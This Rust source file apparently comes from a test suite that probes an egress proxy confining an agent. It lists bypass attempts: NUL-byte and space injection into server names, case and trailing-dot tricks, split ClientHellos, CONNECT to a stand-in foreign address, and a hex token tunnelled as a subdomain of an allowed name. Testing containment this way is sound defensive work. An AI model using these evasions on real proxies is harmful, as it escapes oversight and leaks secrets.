//! Through the proxy: every trick to make it connect to somebody else than an allowed name.

use super::super::attack::{Attack, PositiveControl, attack};
use super::super::call::{Call, Delivery, Endpoint, Placeholder};
use super::super::claims::Claims;
use super::{NOBODY, outward};
use core::net::Ipv4Addr;

/// Where the lab has a host that speaks TLS for any name; for documentation elsewhere.
const STRANGER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 82);

pub fn attacks(claims: &Claims) -> Vec<Attack> {
    let foreign = claims.foreign_name();
    let Some(allowed) = claims.allowed_name() else { return Vec::new() };
    let [here, here6] = claims.sink.map(|address| Endpoint::new(address, 443));
    let proxy = Endpoint::new(Ipv4Addr::LOCALHOST, claims.proxy);
    let message = |to: Endpoint, name: Option<&str>, delivery: Delivery| Call::Tls {
        to,
        name: name.map(str::to_owned),
        delivery,
    };
    // Whoever answers anything has let the attack through: the control sees such an answer.
    let tls = |id: &str, what: String, to: Endpoint, name: Option<&str>, delivery: Delivery| {
        let control = if claims.full {
            PositiveControl::ByRoot(
                "the same as root, to the place itself",
                message(Endpoint::new(STRANGER, 443), Some(foreign), delivery),
            )
        } else {
            PositiveControl::ByRoot(
                "the same probe as root, to a listener on loopback",
                message(Endpoint::loopback(Placeholder::Tcp), name, delivery),
            )
        };
        attack(id, what, message(to, name, delivery), control)
    };
    let sent =
        |id: &str, what: &str, name: &str, delivery: Delivery| tls(id, what.to_owned(), here, Some(name), delivery);
    let through = |id: &str, what: &str, name: &str| sent(id, what, name, Delivery::Whole);
    // Below a wildcard anything is allowed that ends like it, if only the end is looked at.
    let wild = claims.allowed.iter().find(|name| name.below).map_or(allowed, |name| name.name.as_str());
    let odd: String =
        foreign.char_indices().map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect();
    let speak = |to: Endpoint, text: &str| Call::Speak { to, text: text.to_owned() };
    let plain = |id: &str, what: &str, to: Endpoint, text: &str| {
        let on_loopback = speak(Endpoint::loopback(Placeholder::Tcp), "GET / HTTP/1.1\r\n\r\n");
        let control = PositiveControl::ByRoot("the same probe as root, to a listener on loopback", on_loopback);
        attack(id, what, speak(to, text), control)
    };
    let connect = format!("CONNECT {STRANGER}:443 HTTP/1.1\r\nHost: {STRANGER}:443\r\n\r\n");
    let get = format!("GET / HTTP/1.1\r\nHost: {allowed}\r\nConnection: close\r\n\r\n");
    let stolen = "736b2d6f722d76312d3461643563306666";
    let plain_http = Endpoint::new(here.address, 80);
    let (case, doh) = (format!("the foreign name in mixed case ({odd})"), "dns.google");
    let mut attacks = vec![
        through("proxy.foreign", &format!("a foreign name through the proxy ({foreign})"), foreign),
        tls("proxy.foreign6", "the same over IPv6".into(), here6, Some(foreign), Delivery::Whole),
        tls("proxy.port", "the same at the proxy's own port".into(), proxy, Some(foreign), Delivery::Whole),
        through("proxy.doh", &format!("a public resolver over HTTPS, by its name ({doh})"), doh),
        through("proxy.case", &case, &odd),
        through("proxy.dot", "the foreign name with a dot at its end", &format!("{foreign}.")),
        through("proxy.suffix", "an allowed name as a prefix of a foreign one", &format!("{allowed}.{foreign}")),
        through("proxy.prefix", "an allowed name as the end of a foreign label", &format!("x{allowed}")),
        through("proxy.nul", "an allowed name behind a NUL", &format!("{foreign}\0.{allowed}")),
        through(
            "proxy.socket",
            "a path of a socket, behind it a NUL and the end of an allowed name",
            &format!("unix:/run/systemd/journal/stdout\0.{wild}"),
        ),
        through("proxy.space", "an allowed name behind a space", &format!("{foreign} {allowed}")),
        through("proxy.tunnel", "a secret in a name below an allowed one", &format!("{stolen}.{allowed}")),
        through("proxy.address", "an address in place of a name", &STRANGER.to_string()),
        through("proxy.loopback", "loopback in place of a name", "localhost"),
        tls("proxy.nameless", "no name at all".into(), here, None, Delivery::Whole),
        sent("proxy.packets", "the foreign name, in two packets", foreign, Delivery::Packets),
        sent("proxy.records", "the foreign name, in two records", foreign, Delivery::Records),
        sent("proxy.bytes", "the foreign name, its first bytes one by one", foreign, Delivery::Bytes),
        outward(
            claims,
            "proxy.elsewhere",
            &format!("an allowed name sent to a foreign address ({allowed} to {STRANGER})"),
            message(Endpoint::new(STRANGER, 443), Some(allowed), Delivery::Whole),
            message(Endpoint::loopback(Placeholder::Tcp), Some(allowed), Delivery::Whole),
        ),
        plain("proxy.plain", "plain HTTP to port 443", here, &get),
        plain("proxy.http", "plain HTTP to port 80", plain_http, &get),
        plain("proxy.connect", "CONNECT, at the proxy's own port", proxy, &connect),
        plain("proxy.connect-here", "CONNECT, at the allowed address", here, &connect),
        plain("proxy.mail", "mail through the proxy's own port", proxy, &format!("EHLO {NOBODY}\r\n")),
        attack("proxy.open", "the proxy is reachable", Call::Tcp(here), PositiveControl::MustWork),
    ];
    if claims.sees_hello {
        attacks.extend([
            sent(
                "proxy.encrypted",
                "a second, encrypted name behind an allowed one (Encrypted Client Hello)",
                allowed,
                Delivery::Encrypted,
            ),
            sent("proxy.encrypted-records", "the same, in two records", allowed, Delivery::EncryptedRecords),
        ]);
    }
    // Else no word of the agent's reaches anybody because of us.
    if claims.full {
        let must = |id: &str, what: String, name: &str| {
            attack(id, what, message(here, Some(name), Delivery::Whole), PositiveControl::MustWork)
        };
        let odd = allowed.to_ascii_uppercase();
        attacks.extend([
            must("proxy.allowed", format!("an allowed name answers through the proxy ({allowed})"), allowed),
            must("proxy.capitals", format!("an allowed name in capitals is the same name ({odd})"), &odd),
        ]);
    }
    attacks
}
